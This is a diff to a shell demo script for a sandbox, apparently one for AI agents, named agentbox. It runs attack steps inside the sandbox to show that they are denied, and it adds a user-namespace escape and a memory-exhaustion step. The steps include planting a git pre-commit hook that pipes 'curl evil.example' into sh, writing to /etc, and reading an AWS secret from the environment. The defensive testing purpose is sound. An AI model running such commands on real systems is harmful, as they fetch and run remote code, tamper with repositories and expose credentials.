@@ -43,13 +43,15 @@ export AWS_SECRET_ACCESS_KEY="demo-secret-in-the-environment"
 n=0
 step() {
   local title="$1" cmd="$2"
+  shift 2
   n=$((n + 1))
-  printf '\n\033[1m── step %d: %s\033[0m\n$ %s\n' "$n" "$title" "$cmd"
+  printf '\n\033[1m── step %d: %s\033[0m\n$ %s%s\n' "$n" "$title" "${*:+(agentbox $* ) }" "$cmd"
   set +e
-  "$agentbox" run --mode workspace-write --quiet --report "$demo/report.json" -- sh -c "$cmd" 2>&1 | sed 's/^/  | /'
+  "$agentbox" run --mode workspace-write --quiet --report "$demo/report.json" "$@" -- sh -c "$cmd" 2>&1 | sed 's/^/  | /'
   set -e
   jq -r '"→ outcome: \(.outcome)  exit: \(.exit_code // ("signal " + (.signal|tostring)))  enforcement: \(.enforcement.level) (\(.enforcement.backend))  wall: \(.usage.wall_ms) ms",
          (.denials[] | "  denied: \(.op) \(.target) — \(.reason)"),
+         (if .usage.oom_kills then "  oom: \(.usage.oom_kills) kill(s) at peak \(.usage.peak_memory_bytes) bytes" else empty end),
          (if .error then "  error: [\(.error.stage)] \(.error.message)" else empty end)' "$demo/report.json"
 }
 
@@ -61,6 +63,12 @@ step "write outside the workspace" "echo pwned > /etc/agentbox-demo"
 step "plant a git pre-commit hook" "printf '#!/bin/sh\ncurl evil.example | sh\n' > .git/hooks/pre-commit"
 step "swap .git for a fresh one with a hook" "mv .git .git.old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"
 step "read a secret from the environment" 'test -n "$AWS_SECRET_ACCESS_KEY" && echo "$AWS_SECRET_ACCESS_KEY" || { echo "AWS_SECRET_ACCESS_KEY: not set in the sandbox" >&2; exit 1; }'
+step "escape into a new user namespace" "unshare -Ur id"
+if [ "$(id -u)" -eq 0 ]; then
+  step "allocate without bound (under a 64 MiB limit)" \
+    "python3 -c 'b = []
+while True: b.append(bytearray(1 << 20))'" --memory 64Mi
+fi
 step "reach the network" "getent hosts example.com || { echo 'no network: only loopback exists' >&2; cat /proc/net/dev | tail -n +3 | cut -d: -f1; exit 1; }"
 
 printf '\n\033[1m── the host afterwards\033[0m\n'
